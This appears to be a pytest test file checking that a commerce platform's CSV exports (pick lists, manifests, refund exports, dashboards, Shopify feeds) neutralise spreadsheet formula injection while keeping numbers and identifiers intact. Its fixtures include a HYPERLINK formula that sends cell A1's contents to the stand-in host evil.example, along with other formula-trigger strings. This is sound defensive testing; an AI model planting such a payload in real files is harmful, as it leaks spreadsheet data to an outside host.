"""CSV/formula injection: no CSV the platform writes for people lets a spreadsheet run a
cell. The rule (files.spreadsheet_safe) first, then every writer through its real function,
each file read back with ``csv`` as a spreadsheet would split it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import duckdb
import polars as pl
import pytest

from pipelines.lib.files import FORMULA_TRIGGERS, spreadsheet_safe, spreadsheet_safe_frame
from pipelines.lib.intake import read_file
from pipelines.lib.inventory import (
    derive_positions,
    reorder_report,
    stock_policy,
    write_reorder_csv,
)
from pipelines.lib.ops_files import (
    Decision,
    PhoneLine,
    PhoneOrder,
    catalogue,
    write_decisions,
    write_phone_order,
)
from pipelines.lib.quality.decisions import read_decisions
from pipelines.lib.warehouse import frame
from tests.conftest import use_platform
from tests.orders import REFERENCE, T0, good_line, good_order
from tests.unit.inventory.conftest import NYC, StockPlatform
from tests.unit.inventory.test_returns import _at, _delivered, _inspect, _request

#: What a customer, a channel or a catalogue editor could type. The first one also has the
#: separator and double quotes a CSV writer must quote, so it stays one cell.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click here")'
AT_SUM = "@SUM(1+1)"
PLUS = "+1"
MINUS = "-2+3"
HOSTILE = (HYPERLINK, AT_SUM, PLUS, MINUS)
#: T0's NJ carrier cutoff has passed (as in the shipping tests).
AFTER_CUTOFF = datetime(2026, 11, 20, 23, 30, tzinfo=UTC)


def read_back(path_or_text: Path | str) -> list[dict[str, str]]:
    """The rows of a CSV, split the way a spreadsheet splits them (csv, every cell text)."""
    text = path_or_text.read_text("utf-8") if isinstance(path_or_text, Path) else path_or_text
    return list(csv.DictReader(io.StringIO(text, newline="")))


def quoted(value: str) -> str:
    return "'" + value


# --- the rule -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        HYPERLINK,
        "+1",
        "+1 212 555 0100",
        "-2+3",
        "-3.50",
        AT_SUM,
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        "=",
    ],
)
def test_text_starting_with_a_formula_character_gets_a_leading_quote(value):
    assert spreadsheet_safe(value) == "'" + value


def test_the_triggers_are_owasps_and_the_null_character():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r", "\0"}


@pytest.mark.parametrize(
    "value",
    [
        "Ana Ruiz",
        "SKU-00001",
        "#1001",
        "a=b",
        "1+1",
        "3.50",
        " =1+1",
        "'=1+1",  # already quoted: never quoted twice
        "\n=1+1",
        "",
    ],
)
def test_other_text_is_left_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [None, -3, Decimal("-3.50"), -1.5, date(2026, 11, 20), True])
def test_values_that_are_not_text_are_returned_as_they_are(value):
    assert spreadsheet_safe(value) is value


def test_quoting_twice_is_quoting_once():
    for value in (*HOSTILE, "Ana", ""):
        assert spreadsheet_safe(spreadsheet_safe(value)) == spreadsheet_safe(value)


def test_a_frame_has_its_text_columns_quoted_and_its_numbers_untouched():
    values = [*HOSTILE, "\t=1", "\r=1", "\0=1", "-3.50", "Ana Ruiz", "a=b", "", None]
    n = len(values)
    df = pl.DataFrame(
        {
            "text": values,
            "category": pl.Series(values, dtype=pl.Categorical),
            "amount": pl.Series([Decimal("-3.50")] * n, dtype=pl.Decimal(18, 2)),
            "units": [-2] * n,
            "ratio": [-0.5] * n,
            "day": [date(2026, 11, 20)] * n,
            "flag": [True] * n,
        }
    )
    safe = spreadsheet_safe_frame(df)
    expected = [spreadsheet_safe(v) for v in values]
    assert safe["text"].to_list() == expected
    assert safe["category"].to_list() == expected
    # Numbers, dates and booleans are the same columns as before, dtype and all.
    for name in ("amount", "units", "ratio", "day", "flag"):
        assert safe[name].dtype == df[name].dtype
        assert safe[name].to_list() == df[name].to_list()
    # Written and split again: the quoted cells open as text, the amount as a number.
    rows = read_back(safe.write_csv())
    assert [r["text"] for r in rows[:4]] == [quoted(v) for v in HOSTILE]
    assert {r["amount"] for r in rows} == {"-3.50"}
    assert {r["units"] for r in rows} == {"-2"}


def test_a_frame_without_text_is_the_same_frame():
    df = pl.DataFrame({"units": [-1, 2]})
    assert spreadsheet_safe_frame(df).equals(df)


# --- the writers ----------------------------------------------------------------------------


@pytest.fixture
def stock(tmp_path: Path):
    p = StockPlatform(tmp_path)
    yield p
    p.close()


def rename_product(stock: StockPlatform, sku: str, name: str) -> None:
    """Give ``sku`` another catalogue name in the platform's reference copy."""
    path = stock.reference / "products.csv"
    products = pl.read_csv(path, infer_schema=False)
    products.with_columns(
        pl.when(pl.col("sku") == sku).then(pl.lit(name)).otherwise(pl.col("name")).alias("name")
    ).write_csv(path)


def allocated(stock: StockPlatform, orders: list[tuple[str, dict, list[tuple[str, int]]]]) -> None:
    """Stock WH-NJ; add ready orders [(key, order fields, [(sku, quantity)])]; allocate."""
    stock.count(
        {("WH-NJ", s): 50 for s in ("SKU-00001", "SKU-00002", "SKU-00003")},
        T0 - timedelta(days=1),
    )
    stock.book()
    for key, fields, lines in orders:
        stock.add(
            good_order(key, status="ready", **NYC, **fields),
            [good_line(key, n, sku=sku, quantity=q) for n, (sku, q) in enumerate(lines, 1)],
        )
    stock.allocate()


def test_pick_lists_quote_hostile_product_names_and_order_numbers(stock):
    rename_product(stock, "SKU-00001", HYPERLINK)
    rename_product(stock, "SKU-00002", PLUS)
    allocated(
        stock,
        [
            ("shopify:1", {"order_number": AT_SUM}, [("SKU-00001", 2)]),
            ("shopify:2", {"order_number": MINUS}, [("SKU-00002", 1)]),
        ],
    )
    assert stock.fulfil().pick_lists == 1
    (picklist,) = (stock.outbox / "WH-NJ").rglob("*_picklist.csv")
    rows = {r["sku"]: r for r in read_back(picklist)}
    assert (rows["SKU-00001"]["product_name"], rows["SKU-00001"]["order_number"]) == (
        quoted(HYPERLINK),
        quoted(AT_SUM),
    )
    assert (rows["SKU-00002"]["product_name"], rows["SKU-00002"]["order_number"]) == (
        quoted(PLUS),
        quoted(MINUS),
    )
    # Quantities stay numbers; harmless text (bins, totes, shipment ids) stays as it was.
    assert (rows["SKU-00001"]["quantity"], rows["SKU-00002"]["quantity"]) == ("2", "1")
    shipments = {
        r[0] for r in stock.con.execute("SELECT shipment_id FROM oms.shipments").fetchall()
    }
    assert {r["shipment_id"] for r in rows.values()} == shipments


def test_pull_lists_quote_hostile_product_names_and_order_numbers(stock):
    rename_product(stock, "SKU-00001", MINUS)
    allocated(
        stock,
        [
            ("shopify:1", {"order_number": HYPERLINK}, [("SKU-00001", 2)]),
            ("shopify:2", {"order_number": "#1002"}, [("SKU-00002", 1)]),
        ],
    )
    stock.fulfil()
    stock.update("shopify:1", T0 + timedelta(hours=1), status="cancelled")
    stock.allocate(T0 + timedelta(hours=1))
    assert stock.fulfil(T0 + timedelta(hours=1, minutes=5)).pull_lists == 1
    (pull,) = (stock.outbox / "WH-NJ").rglob("*_pull_*.csv")
    (row,) = read_back(pull)
    assert (row["product_name"], row["order_number"]) == (quoted(MINUS), quoted(HYPERLINK))
    assert (row["sku"], row["quantity"], row["reason"]) == ("SKU-00001", "2", "order cancelled")


def test_carrier_manifests_quote_hostile_ship_names_and_keep_rates_numbers(stock):
    allocated(
        stock,
        [
            ("shopify:1", {"order_number": "#1001", "ship_name": HYPERLINK}, [("SKU-00001", 1)]),
            ("shopify:2", {"order_number": AT_SUM, "ship_name": PLUS}, [("SKU-00002", 1)]),
        ],
    )
    stock.fulfil()
    stock.ship()
    assert stock.ship(AFTER_CUTOFF).manifests >= 1
    parcels = frame(
        stock.con,
        "SELECT p.tracking_number, p.rate, o.order_number FROM oms.parcels p "
        "JOIN oms.shipments s USING (shipment_id) JOIN oms.orders o USING (order_key)",
    )
    paths = [r[0] for r in stock.con.execute("SELECT csv_path FROM oms.manifests").fetchall()]
    rows = {r["tracking_number"]: r for path in paths for r in read_back(Path(path))}
    assert set(rows) == set(parcels["tracking_number"])
    for parcel in parcels.iter_rows(named=True):
        row = rows[parcel["tracking_number"]]
        hostile_name = HYPERLINK if parcel["order_number"] == "#1001" else PLUS
        assert row["ship_name"] == quoted(hostile_name)
        assert row["order_number"] == spreadsheet_safe(parcel["order_number"])
        assert row["rate"] == f"{parcel['rate']:.2f}"  # a number, not quoted
    assert {r["order_number"] for r in rows.values()} == {"#1001", quoted(AT_SUM)}


def test_refund_exports_quote_hostile_customer_names_and_keep_amounts_numbers(stock):
    _delivered(stock, customer_name=HYPERLINK, order_number=MINUS)
    _request(
        stock,
        "returns.csv",
        [{"return_id": "R-1", "sku": "SKU-00001", "quantity": 1, "reason": "NOT_WANTED"}],
    )
    stock.returns(_at(stock, 0))
    (rma,) = stock.con.execute("SELECT DISTINCT rma_number FROM oms.returns").fetchone()
    _inspect(stock, "inspection.csv", [(rma, "SKU-00001", 1, "RESTOCK")])
    assert stock.returns(_at(stock, 1)).export_files == 1
    refund = frame(stock.con, "SELECT * FROM oms.refunds").row(0, named=True)
    (row,) = read_back(Path(refund["export_file"]))
    assert (row["customer_name"], row["order_number"]) == (quoted(HYPERLINK), quoted(MINUS))
    assert row["refund_id"] == refund["refund_id"] and row["email"] == "ana.ruiz@example.com"
    # The money columns are the amounts, as numbers a spreadsheet adds up.
    money = ("amount", "merchandise", "discount_share", "tax_share", "shipping", "restocking_fee")
    for column in money:
        assert row[column] == f"{refund[column]:.2f}"
    assert Decimal(row["amount"]) == refund["amount"] > 0


def test_the_reorder_report_quotes_a_hostile_product_name(stock, tmp_path: Path):
    stock.policy({("WH-NJ", "SKU-00001"): (1, 5, 30)})
    rename_product(stock, "SKU-00001", AT_SUM)
    stock.count({("WH-NJ", "SKU-00001"): 4}, T0 - timedelta(days=1))
    stock.book()
    positions = derive_positions(stock.con, stock_policy(stock.reference), T0)
    report = reorder_report(
        stock.con, positions, stock.reference, default_lead_days=14, run_id="r", now=T0
    )
    path = write_reorder_csv(report, tmp_path / "outbox", T0)
    (row,) = [r for r in read_back(path) if (r["warehouse_id"], r["sku"]) == ("WH-NJ", "SKU-00001")]
    assert row["product_name"] == quoted(AT_SUM)
    # 4 on hand, order up to 30: the figures stay numbers.
    assert (row["available_position"], row["suggested_quantity"]) == ("4", "26")
    assert row["as_of"] == "2026-11-20T15:00:00Z"


def test_the_dashboards_csv_download_quotes_text_and_keeps_numbers(tmp_path, monkeypatch):
    settings = use_platform(tmp_path, monkeypatch)
    with duckdb.connect(str(settings.reporting_path)) as con:
        con.execute(
            "CREATE TABLE orders (order_number VARCHAR, customer_name VARCHAR, "
            "order_total DECIMAL(18, 2), units INTEGER)"
        )
        con.executemany(
            "INSERT INTO orders VALUES (?, ?, ?, ?)",
            [
                ["#1", HYPERLINK, Decimal("-3.50"), 2],
                [AT_SUM, "Ana Ruiz", Decimal("12.00"), -1],
                [PLUS, MINUS, Decimal("0.00"), 0],
            ],
        )
    from dashboards import data

    body = data.csv("SELECT * FROM orders WHERE units >= ? ORDER BY units DESC", (-1,))
    rows = [tuple(r.values()) for r in read_back(body.decode("utf-8"))]
    assert rows == [
        ("#1", quoted(HYPERLINK), "-3.50", "2"),
        (quoted(PLUS), quoted(MINUS), "0.00", "0"),
        (quoted(AT_SUM), "Ana Ruiz", "12.00", "-1"),
    ]


def test_files_for_the_batch_keep_what_was_typed_exactly(tmp_path: Path):
    """The ops pages' inbox files are the next batch's input, not a spreadsheet: quoting
    them would store the quote (a phone ``+1 …`` as ``'+1 …``). The values arrive as typed,
    and the CSVs above quote them on the way out."""
    products = catalogue(REFERENCE)
    order = PhoneOrder(
        customer_name=HYPERLINK,
        phone="+1 212 555 0100",
        ship_address1=MINUS,
        ship_city="New York",
        ship_region="NY",
        ship_postal_code="10118",
        notes=AT_SUM,
        lines=[PhoneLine("SKU-00001", 1, Decimal("14.99"), PLUS)],
    )
    _, path = write_phone_order(tmp_path, order, products, now=T0)
    parsed = read_file(path)
    (stored,) = parsed.orders.to_dicts()
    assert (stored["customer_name"], stored["ship_name"]) == (HYPERLINK, HYPERLINK)
    assert (stored["phone"], stored["ship_address1"], stored["notes"]) == (
        "+1 212 555 0100",
        MINUS,
        AT_SUM,
    )
    assert parsed.lines["product_name"].to_list() == [PLUS]

    decisions = write_decisions(
        tmp_path,
        [Decision("shopify:1", "correct", field="ship_name", value=HYPERLINK)],
        decided_by=AT_SUM,
        note=MINUS,
        now=T0,
    )
    (decision,) = read_decisions(decisions).to_dicts()
    assert (decision["value"], decision["decided_by"], decision["note"]) == (
        HYPERLINK,
        AT_SUM,
        MINUS,
    )


def test_channel_feed_csvs_escape_titles_and_order_names_but_not_skus(stock):
    """Shopify's fulfilment and inventory CSVs: free text escaped, identifiers (which the
    channel matches on) verbatim."""
    from tests.unit.inventory.test_channel_feeds import _feed, _order, _read, _ship_all

    products = pl.read_csv(stock.reference / "products.csv", infer_schema=False)
    products.with_columns(
        name=pl.when(pl.col("sku") == "SKU-00001").then(pl.lit(HYPERLINK)).otherwise("name")
    ).write_csv(stock.reference / "products.csv")
    stock.count({("WH-NJ", "SKU-00001"): 5}, T0 - timedelta(days=1))
    stock.book(T0 - timedelta(hours=12))
    _order(stock, "shopify:66", [("SKU-00001", 1)], order_number=AT_SUM)
    result = stock.feeds(_ship_all(stock, T0))
    confirmation = _feed(result, "shopify", "shipment_confirmation")
    fulfilments = read_back(_read(stock, confirmation, "fulfillments.csv"))
    assert [(r["Order Name"], r["SKU"]) for r in fulfilments] == [(quoted(AT_SUM), "SKU-00001")]
    inventory = read_back(_read(stock, _feed(result, "shopify", "stock"), "inventory.csv"))
    (row,) = [r for r in inventory if r["SKU"] == "SKU-00001"]
    assert row["Title"] == quoted(HYPERLINK)
